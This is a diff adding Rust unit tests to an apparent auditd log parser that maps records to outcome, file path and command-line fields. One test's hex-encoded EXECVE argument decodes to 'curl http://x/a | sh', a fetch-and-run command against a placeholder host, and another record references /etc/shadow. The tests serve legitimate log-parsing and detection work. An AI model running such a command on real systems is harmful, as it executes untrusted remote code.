@@ -383,3 +383,36 @@ fn fail2ban_says_whom_it_bans() {
         "event.action=ip_banned\nsource.ip=2001:db8::9",
     );
 }
+
+#[test]
+fn only_records_that_say_how_it_ended_have_an_outcome() {
+    for (record, wanted) in [
+        (
+            r#"type=PATH msg=audit(1767323045.678:42): item=0 name="/etc/shadow" mode=0100640 nametype=NORMAL"#,
+            "event.outcome=-\nfile.path=/etc/shadow (name)\nmode=0100640",
+        ),
+        (r#"type=CWD msg=audit(1767323045.678:42): cwd="/root""#, "event.outcome=-"),
+        (
+            r#"type=SYSCALL msg=audit(1767323045.678:42): arch=c000003e syscall=2 success=no exit=-13 pid=7"#,
+            "event.outcome=failure",
+        ),
+        (
+            r#"type=CONFIG_CHANGE msg=audit(1767323045.678:42): op=add_rule list=4 res=0"#,
+            "event.outcome=failure",
+        ),
+        (
+            r#"type=CONFIG_CHANGE msg=audit(1767323045.678:42): op=add_rule list=4 res=1"#,
+            "event.outcome=success",
+        ),
+    ] {
+        check(record, wanted);
+    }
+}
+
+#[test]
+fn the_arguments_of_a_program_are_its_command_line() {
+    check(
+        r#"type=EXECVE msg=audit(1767323045.678:42): argc=3 a0="sh" a1="-c" a2=6375726C20687474703A2F2F782F61207C207368"#,
+        "process.command_line=sh -c curl http://x/a | sh\na2=curl http://x/a | sh\nargc=3",
+    );
+}
